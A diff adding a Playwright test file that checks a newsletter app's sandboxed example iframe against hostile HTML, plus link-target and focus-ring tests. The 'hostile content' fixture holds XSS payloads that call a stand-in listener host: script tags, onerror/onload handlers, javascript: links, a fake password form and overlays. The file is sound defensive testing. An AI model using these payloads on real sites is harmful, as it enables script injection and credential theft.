@@ -1,0 +1,137 @@
+import { stack } from './backend';
+import { openExample, settledHeight, tall } from './example';
+import { expect, test } from './fixtures';
+
+test.describe('hostile content', () => {
+  test.use({ expectErrors: true });
+
+  const listener = 'https://listener.test';
+  const attack = 'parent.__pwn=1;top.__pwn=1;fetch("https://listener.test/script")';
+  const hostile = `
+    <meta http-equiv="refresh" content="0;url=${listener}/refresh">
+    <base href="${listener}/base/"><link rel="stylesheet" href="${listener}/sheet.css">
+    <style>@import url(${listener}/import.css); *{color:red}</style>
+    <script>${attack}</script><script src="${listener}/script.js"></script>
+    <img src="data:," onerror='${attack}'><svg onload='${attack}'><script>${attack}</script></svg>
+    <iframe src="${listener}/frame"></iframe><iframe srcdoc="<script>parent.parent.__pwn=1</script>"></iframe>
+    <object data="${listener}/object"></object><embed src="${listener}/embed">
+    <video src="${listener}/video" autoplay></video><audio src="${listener}/audio" autoplay></audio>
+    <iframe src="${stack.shell}/own-frame"></iframe><link rel="stylesheet" href="${stack.shell}/own-sheet.css">
+    <object data="${stack.shell}/own-object"></object>
+    <form id="f" action="${listener}/form" method="post"><input name="password" type="password" value="x"><button>Sign in</button></form>
+    <a id="js" href="javascript:${encodeURIComponent(attack)}">script link</a>
+    <a id="top" href="${listener}/top" target="_top">top link</a>
+    <a id="parent" href="${listener}/parent" target="_parent">parent link</a>
+    <a id="self" href="${listener}/self" target="_self">self link</a>
+    <textarea></textarea></title></textarea><script>${attack}</script>
+    <div style="position:fixed;inset:0;z-index:2147483647;background:red" onclick='${attack}'></div>`;
+
+  test('runs nothing, requests nothing, and stays in its frame', async ({ page, context }) => {
+    const asked: string[] = [];
+    await context.route(`${listener}/**`, (route) => {
+      asked.push(route.request().url());
+      return route.fulfill({ contentType: 'text/html', body: '<p>outside</p>' });
+    });
+    // The page can load these, the example can't: it has a policy of its own.
+    await context.route(`${stack.shell}/own-*`, (route) => {
+      asked.push(route.request().url());
+      return route.fulfill({ contentType: 'text/html', body: '<p>own</p>' });
+    });
+    page.on('dialog', () => asked.push('dialog'));
+    const frame = await openExample(page, hostile);
+    const address = page.url();
+    const sandbox = (await frame.getAttribute('sandbox'))?.split(' ');
+    expect(sandbox).not.toContain('allow-scripts');
+    const inside = page.frameLocator('iframe').first();
+    for (const id of ['js', 'self', 'top', 'parent']) await inside.locator(`#${id}`).dispatchEvent('click');
+    await inside.locator('#f button').dispatchEvent('click');
+    // Links that are clicked open in new tabs. These requests come last, after anything the example does on its own.
+    const outside = /\/(self|top|parent)$/;
+    await expect.poll(() => asked.filter((url) => outside.test(url))).toHaveLength(3);
+    await page.evaluate(() => fetch('/config.json'));
+    expect(await page.evaluate(() => '__pwn' in window)).toBe(false);
+    expect(page.url()).toBe(address);
+    await page.getByRole('button', { name: 'Back to Newsletters' }).click();
+    await expect(page).toHaveURL(`${stack.shell}/`);
+    expect(asked.filter((url) => !outside.test(url))).toEqual([]);
+  });
+
+  test('the largest possible style sheet and messages with fake heights have no effect', async ({ page }) => {
+    const rules = '.a{color:red}'.repeat(70_000);
+    const frame = await openExample(page, `<style>*{display:none!important}${rules}</style><p>x</p>`);
+    await page.evaluate(() => {
+      for (let count = 0; count < 1000; count += 1) {
+        for (const height of [99_999_999, -1, Number.NaN, '1e9'])
+          window.postMessage({ height, type: 'height' }, '*');
+      }
+    });
+    expect(await settledHeight(frame)).toBe(200);
+    await page.getByRole('button', { name: 'Back to Newsletters' }).click();
+    await expect(page.getByRole('heading', { name: 'Featured Newsletters' })).toBeVisible();
+  });
+
+  for (const target of ['_top', '_parent', '_self', '_blank', 'name']) {
+    test(`a link with the target ${target} opens a new tab without an opener`, async ({ page, context }) => {
+      await context.route(`${listener}/**`, (route) =>
+        route.fulfill({ contentType: 'text/html', body: 'outside' }),
+      );
+      await openExample(page, `<p><a href="${listener}/out" target="${target}">Go</a></p>`);
+      const address = page.url();
+      const opened = context.waitForEvent('page');
+      await page.frameLocator('iframe').getByText('Go').click();
+      const tab = await opened;
+      await tab.waitForURL(`${listener}/out`);
+      expect(await tab.evaluate(() => window.opener)).toBeNull();
+      expect(await tab.evaluate(() => document.referrer)).toBe('');
+      expect(page.url()).toBe(address);
+    });
+  }
+
+  test('a link within the issue stays in it', async ({ page }) => {
+    await openExample(page, `<p><a href="#end">To the end</a></p>${tall}<p id="end">The end</p>`);
+    const address = page.url();
+    await page.frameLocator('iframe').getByText('To the end').click();
+    await expect(page.frameLocator('iframe').getByText('The end', { exact: true })).toBeInViewport();
+    expect(page.url()).toBe(address);
+  });
+});
+
+for (const colorScheme of ['light', 'dark'] as const) {
+  test.describe(colorScheme, () => {
+    // Low enough that the frame is below the fold.
+    test.use({ colorScheme, viewport: { width: 360, height: 400 } });
+
+    test('a ring shows keyboard focus in the frame, whatever its content', async ({ page }) => {
+      const frame = await openExample(page, '<p>Nothing in here takes the focus</p>');
+      const ring = () =>
+        frame.evaluate(({ parentElement }) => {
+          const { content, borderTopWidth, borderTopColor, boxShadow } = getComputedStyle(
+            parentElement as HTMLElement,
+            '::after',
+          );
+          return content === 'none' ? 'none' : { borderTopWidth, borderTopColor, boxShadow };
+        });
+      const [line, under] =
+        colorScheme === 'light'
+          ? ['rgb(31, 77, 63)', 'rgb(255, 255, 255)']
+          : ['rgb(143, 211, 184)', 'rgb(30, 28, 25)'];
+      expect(await ring()).toBe('none');
+      await expect(frame).not.toBeInViewport();
+      await page.getByRole('button', { name: 'Back to Newsletters' }).focus();
+      await page.keyboard.press('Tab');
+      await expect(frame).toBeFocused();
+      await expect(frame).toBeInViewport();
+      expect(await ring()).toEqual({
+        borderTopWidth: '3px',
+        borderTopColor: line,
+        boxShadow: `${under} 0px 0px 0px 3px inset`,
+      });
+      await page.keyboard.press('Shift+Tab');
+      await expect(frame).not.toBeFocused();
+      expect(await ring()).toBe('none');
+      await page.frameLocator('iframe').getByText('Nothing').click();
+      await expect(frame).toBeFocused();
+      expect(await ring()).toBe('none');
+    });
+  });
+}
